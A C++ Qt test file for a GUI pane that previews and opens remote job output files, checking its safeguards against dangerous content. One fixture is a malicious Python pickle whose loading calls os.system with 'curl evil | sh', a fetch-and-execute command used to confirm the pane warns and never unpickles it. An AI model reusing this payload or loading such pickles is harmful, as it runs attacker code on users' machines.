// SPDX-FileCopyrightText: Perch contributors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "gui/results/filespane.h"
#include "gui/results/outputview.h"
#include "gui/results/pictureview.h"
#include "gui/results/previewpane.h"
#include "gui/results/resultscontroller.h"
#include "gui/session.h"
#include "gui/theme.h"
#include "gui/widgets/callout.h"
#include "gui/widgets/elidedlabel.h"
#include "tests/support/login.h"
#include "tests/support/opened.h"

#include "shots.h"

#include <QBuffer>
#include <QDesktopServices>
#include <QFileInfo>
#include <QLabel>
#include <QPainter>
#include <QPdfWriter>
#include <QPushButton>
#include <QRandomGenerator>
#include <QSignalSpy>
#include <QTableView>
#include <QTemporaryDir>
#include <QTest>
#include <QToolButton>

#include <cmath>

using namespace perch;
using namespace perch::test;

namespace
{

/// Stands in for the desktop: what it is given to open.
class Desktop : public QObject
{
    Q_OBJECT

public:
    Desktop() { QDesktopServices::setUrlHandler(QStringLiteral("file"), this, "take"); }
    ~Desktop() override { QDesktopServices::unsetUrlHandler(QStringLiteral("file")); }
    QStringList paths;

public Q_SLOTS:
    void take(const QUrl &url) { paths << url.toLocalFile(); }
};

QImage worstMistakes()
{
    QImage sheet(560, 280, QImage::Format_RGB32);
    sheet.fill(QColor(20, 20, 24));
    QPainter painter(&sheet);
    painter.setPen(Qt::white);
    for (int i = 0; i < 10; ++i)
        painter.drawText(QRect(i % 5 * 112, i / 5 * 140, 112, 140), Qt::AlignCenter,
                         QStringLiteral("%1 ≠ %2").arg(i).arg(9 - i));
    return sheet;
}

/// A pickle as `pickle.dumps(..., 0)` writes it for an object whose loading calls os.system.
constexpr auto evilPickle = "(dp0\nVweight\nF0.5\nsVnote\ncposix\nsystem\n(Vcurl evil | sh\ntRs.";

} // namespace

/// The files of a job that lie on a real sshd's side, chosen, looked at, fetched and opened.
class TestFilesPane : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase()
    {
        theme::apply(theme::Scheme::Light);
        qRegisterMetaType<DownloadResult>();
    }
    void init();
    void cleanup();

    void showsEachKindOfFile();
    void fetchesNothingLargeUnasked();
    void readsFromTheCopyWhenItIsHere();
    void opensOnlyWhatIsHarmless();
    void saysWhatIsMissingWhenOffline();

private:
    void put(const QString &name, const QByteArray &bytes);
    void list();
    void choose(const QString &name);
    [[nodiscard]] bool says(const QString &words) const;
    [[nodiscard]] QPushButton *button(const QString &text) const;
    [[nodiscard]] QTableView *files() const
    {
        const QList<QTableView *> tables = m_pane->findChildren<QTableView *>();
        for (QTableView *one : tables) { // the preview may have one too
            if (!m_pane->findChild<PreviewPane *>()->isAncestorOf(one))
                return one;
        }
        return nullptr;
    }
    [[nodiscard]] QTableView *content() const
    {
        const auto tables = m_pane->findChild<PreviewPane *>()->findChildren<QTableView *>();
        return tables.isEmpty() ? nullptr : tables.first();
    }

    std::unique_ptr<QTemporaryDir> m_server;
    std::unique_ptr<QTemporaryDir> m_home;
    std::unique_ptr<SshdServer> m_sshd;
    std::unique_ptr<Session> m_session;
    std::unique_ptr<ResultsController> m_results;
    std::unique_ptr<FilesPane> m_pane;
    TrustingPrompter m_prompter;
};

void TestFilesPane::init()
{
    m_server = std::make_unique<QTemporaryDir>();
    m_home = std::make_unique<QTemporaryDir>();
    qputenv("HOME", m_home->path().toUtf8());
    m_sshd = std::make_unique<SshdServer>();
    Profile profile;
    profile.site.id = QStringLiteral("test");
    profile.site.accessPoints = {targetOf(*m_sshd).service};
    profile.site.transferServer = targetOf(*m_sshd).service;
    profile.user = QString::fromStdString(m_sshd->user());
    profile.keyFile = QString::fromStdString(m_sshd->keyFile());
    m_session = std::make_unique<Session>(profile, m_prompter,
                                          QString::fromStdString(m_sshd->knownHostsFile()));
    const Result<void> result = opened(m_session->accessPoint());
    QVERIFY2(result, words(result).constData());
    m_results = std::make_unique<ResultsController>();
    m_results->setSession(m_session.get());
    m_pane = std::make_unique<FilesPane>(*m_results);
    m_pane->resize(900, 420);
    m_pane->show();
}

void TestFilesPane::cleanup()
{
    m_pane.reset();
    m_results.reset();
    m_session.reset();
    m_sshd.reset();
}

void TestFilesPane::put(const QString &name, const QByteArray &bytes)
{
    QFile file(m_server->filePath(name));
    QVERIFY(file.open(QIODevice::WriteOnly));
    QCOMPARE(file.write(bytes), bytes.size());
}

void TestFilesPane::list()
{
    Job job;
    job.id = {9000, 0};
    job.state = JobState::Succeeded;
    RunRecord run;
    run.cluster = 9000;
    run.remoteFolder = m_server->path();
    run.submitText = QStringLiteral("queue\n");
    m_results->showJob(job, run);
    QTRY_VERIFY_WITH_TIMEOUT(files()->model()->rowCount() > 0, 20'000);
}

void TestFilesPane::choose(const QString &name)
{
    for (int row = 0; row < files()->model()->rowCount(); ++row) {
        if (files()->model()->index(row, 0).data(FilesModel::NameRole).toString() == name) {
            files()->selectRow(row);
            return;
        }
    }
    QFAIL(qPrintable(name));
}

bool TestFilesPane::says(const QString &words) const
{
    const QList<QLabel *> labels = m_pane->findChildren<QLabel *>();
    return std::any_of(labels.cbegin(), labels.cend(), [&words](const QLabel *label) {
        return label->isVisible() && label->text().contains(words);
    });
}

QPushButton *TestFilesPane::button(const QString &text) const
{
    const QList<QPushButton *> buttons = m_pane->findChildren<QPushButton *>();
    for (QPushButton *one : buttons) {
        if (one->isVisible() && one->text() == text)
            return one;
    }
    return nullptr;
}

void TestFilesPane::showsEachKindOfFile()
{
    const QString longName =
        QStringLiteral("a-very-long-name-of-a-run-with-learning-rate-0.0003-and-"
                       "batch-size-512-and-seed-17-worst-mistakes.png");
    {
        QImage sheet = worstMistakes();
        QVERIFY(sheet.save(m_server->filePath(longName)));
        QPdfWriter writer(m_server->filePath(QStringLiteral("paper.pdf")));
        QPainter painter(&writer);
        painter.drawText(QRect(500, 500, 8000, 2000), Qt::AlignCenter, QStringLiteral("Curves"));
    }
    QByteArray table = "step,epoch,train_loss,note\n";
    for (int i = 0; i < 5000; ++i)
        table += QByteArray::number(i) + ',' + QByteArray::number(i / 500) + ',' +
                 QByteArray::number(0.1 + std::exp(-i / 900.0), 'f', 5) + ",\"warm, up\"\n";
    put(QStringLiteral("metrics.csv"), table);
    put(QStringLiteral("config.json"), R"({"model":{"layers":[32,64],"dropout":0.25},"lr":1.0})");
    put(QStringLiteral("evil.pkl"), evilPickle);
    put(QStringLiteral("hello.out"), "\x1b[32mTest set\x1b[0m: Accuracy: 9916/10000 (99%)\n");
    put(QStringLiteral("empty.err"), {});
    put(QStringLiteral("bomb.png"), [] {
        QImage huge(12'000, 9'000, QImage::Format_Mono);
        huge.fill(0);
        QBuffer buffer;
        buffer.open(QIODevice::WriteOnly);
        huge.save(&buffer, "PNG");
        return buffer.data();
    }());
    list();
    QVERIFY(says(QStringLiteral("Choose a file")));
    saveShots(*m_pane, QStringLiteral("files-none"), {900, 420});

    choose(longName);
    auto *picture = m_pane->findChild<PictureView *>();
    QTRY_VERIFY_WITH_TIMEOUT(picture->isVisible() && picture->picture().width() == 560, 20'000);
    saveShots(*m_pane, QStringLiteral("files-picture"), {900, 420});

    choose(QStringLiteral("metrics.csv"));
    QTRY_VERIFY_WITH_TIMEOUT(content() && content()->isVisible(), 20'000);
    QCOMPARE(content()->model()->rowCount(), 5000);
    QCOMPARE(content()->model()->index(3, 3).data().toString(), QStringLiteral("warm, up"));
    saveShots(*m_pane, QStringLiteral("files-table"), {900, 420});

    choose(QStringLiteral("evil.pkl"));
    QTRY_VERIFY_WITH_TIMEOUT(says(QStringLiteral("would run other code")), 20'000);
    QVERIFY(says(QStringLiteral("posix.system('curl evil | sh')")));
    saveShots(*m_pane, QStringLiteral("files-model"), {900, 420});

    choose(QStringLiteral("config.json"));
    const auto text = [this] {
        const auto *view = m_pane->findChild<OutputView *>();
        return view && view->isVisible() ? view->shownText() : QString();
    };
    QTRY_VERIFY_WITH_TIMEOUT(text().contains(QStringLiteral("    \"layers\": [32, 64]")), 20'000);
    QVERIFY(!m_pane->findChild<Callout *>()->isVisible());
    saveShots(*m_pane, QStringLiteral("files-json"), {900, 420});

    choose(QStringLiteral("paper.pdf"));
    QTRY_VERIFY_WITH_TIMEOUT(picture->isVisible() && picture->picture().height() == 1400, 40'000);
    saveShots(*m_pane, QStringLiteral("files-pdf"), {900, 420});

    choose(QStringLiteral("bomb.png"));
    QTRY_VERIFY_WITH_TIMEOUT(says(QStringLiteral("12000 × 9000")), 20'000);
    saveShots(*m_pane, QStringLiteral("files-refused"), {900, 420});
    choose(QStringLiteral("empty.err"));
    QTRY_VERIFY(says(QStringLiteral("empty")));
    files()->selectAll();
    QTRY_VERIFY(says(QStringLiteral("chosen")));
}

void TestFilesPane::fetchesNothingLargeUnasked()
{
    QByteArray line = "some words of a long run\n";
    put(QStringLiteral("long.out"), line.repeated(200'000)); // 5 MB
    put(QStringLiteral("mnist_cnn.pt"), QByteArray(4'800'120, 'x'));
    list();
    choose(QStringLiteral("mnist_cnn.pt"));
    QTRY_VERIFY(button(QStringLiteral("Fetch 4.80 MB to preview")));
    QVERIFY(!button(QStringLiteral("Show the first 2.00 MB")));
    saveShots(*m_pane, QStringLiteral("files-large"), {900, 420});
    choose(QStringLiteral("long.out"));
    QTRY_VERIFY(button(QStringLiteral("Show the first 2.00 MB")));
    button(QStringLiteral("Show the first 2.00 MB"))->click();
    QTRY_VERIFY_WITH_TIMEOUT(says(QStringLiteral("The first 2.00 MB are shown")), 20'000);
    QVERIFY(!QFileInfo::exists(m_home->filePath(QStringLiteral("Perch")))); // nothing was kept
}

void TestFilesPane::readsFromTheCopyWhenItIsHere()
{
    put(QStringLiteral("large.csv"), "a,b\n" + QByteArray("1,2\n").repeated(700'000));
    list();
    choose(QStringLiteral("large.csv"));
    QTRY_VERIFY(button(QStringLiteral("Fetch 2.80 MB to preview")));
    const QSignalSpy downloaded(m_results.get(), &ResultsController::downloaded);
    button(QStringLiteral("Fetch 2.80 MB to preview"))->click();
    QTRY_COMPARE_WITH_TIMEOUT(downloaded.size(), 1, 30'000);
    QTRY_VERIFY_WITH_TIMEOUT(content() && content()->isVisible(), 20'000);
    QCOMPARE(content()->model()->rowCount(), 700'000);
    const auto result = downloaded.first().first().value<DownloadResult>();
    QVERIFY(result.localPath.startsWith(m_home->path()));
    // it goes on being shown when the list comes anew, and from the copy when it is chosen again
    m_results->setSession(nullptr);
    files()->clearSelection();
    choose(QStringLiteral("large.csv"));
    QTRY_VERIFY_WITH_TIMEOUT(content()->isVisible() && content()->model(), 20'000);
    QCOMPARE(content()->model()->rowCount(), 700'000);
}

void TestFilesPane::opensOnlyWhatIsHarmless()
{
    put(QStringLiteral("notes.txt"), "harmless\n");
    put(QStringLiteral("run.txt"), "#!/bin/sh\ntouch ran\n");
    QVERIFY(QFile::setPermissions(m_server->filePath(QStringLiteral("notes.txt")),
                                  QFile::Permissions(0x7755)));
    list();
    Desktop desktop;
    const QSignalSpy noticed(m_pane.get(), &FilesPane::noticed);
    const QSignalSpy downloaded(m_results.get(), &ResultsController::downloaded);
    const auto toolButton = [this](const QString &text) -> QToolButton * {
        const QList<QToolButton *> buttons = m_pane->findChildren<QToolButton *>();
        for (QToolButton *one : buttons) {
            if (one->isVisible() && one->text() == text)
                return one;
        }
        return nullptr;
    };
    choose(QStringLiteral("notes.txt"));
    QTRY_VERIFY(toolButton(QStringLiteral("Download and open")));
    toolButton(QStringLiteral("Download and open"))->click();
    QTRY_COMPARE_WITH_TIMEOUT(desktop.paths.size(), 1, 30'000);
    QVERIFY(desktop.paths.first().endsWith(QStringLiteral("/notes.txt")));
    // even a copy that someone made executable since
    QVERIFY(QFile::setPermissions(desktop.paths.first(), QFile::Permissions(0x7755)));
    QTRY_VERIFY(toolButton(QStringLiteral("Open")));
    toolButton(QStringLiteral("Open"))->click();
    QTRY_COMPARE_WITH_TIMEOUT(desktop.paths.size(), 2, 30'000);
    QVERIFY(!QFileInfo(desktop.paths.first()).isExecutable());
    QVERIFY(!(QFile::permissions(desktop.paths.first()) & QFile::ExeOther));
    toolButton(QStringLiteral("Show in folder"))->click();
    QTRY_COMPARE(desktop.paths.size(), 3);
    QCOMPARE(desktop.paths.last(), QFileInfo(desktop.paths.first()).path());
    QVERIFY(noticed.isEmpty());

    choose(QStringLiteral("run.txt"));
    QTRY_VERIFY(toolButton(QStringLiteral("Download and open")) &&
                toolButton(QStringLiteral("Download and open"))->isEnabled());
    toolButton(QStringLiteral("Download and open"))->click();
    QTRY_COMPARE_WITH_TIMEOUT(noticed.size(), 1, 30'000);
    QVERIFY(noticed.first().first().toString().contains(QStringLiteral("it is a script")));
    QCOMPARE(desktop.paths.size(), 3);
}

void TestFilesPane::saysWhatIsMissingWhenOffline()
{
    put(QStringLiteral("notes.txt"), "harmless\n");
    list();
    m_results->setSession(nullptr);
    choose(QStringLiteral("notes.txt"));
    QTRY_VERIFY_WITH_TIMEOUT(says(QStringLiteral("You are not connected")), 20'000);
}

QTEST_MAIN(TestFilesPane)
#include "tst_filespane.moc"
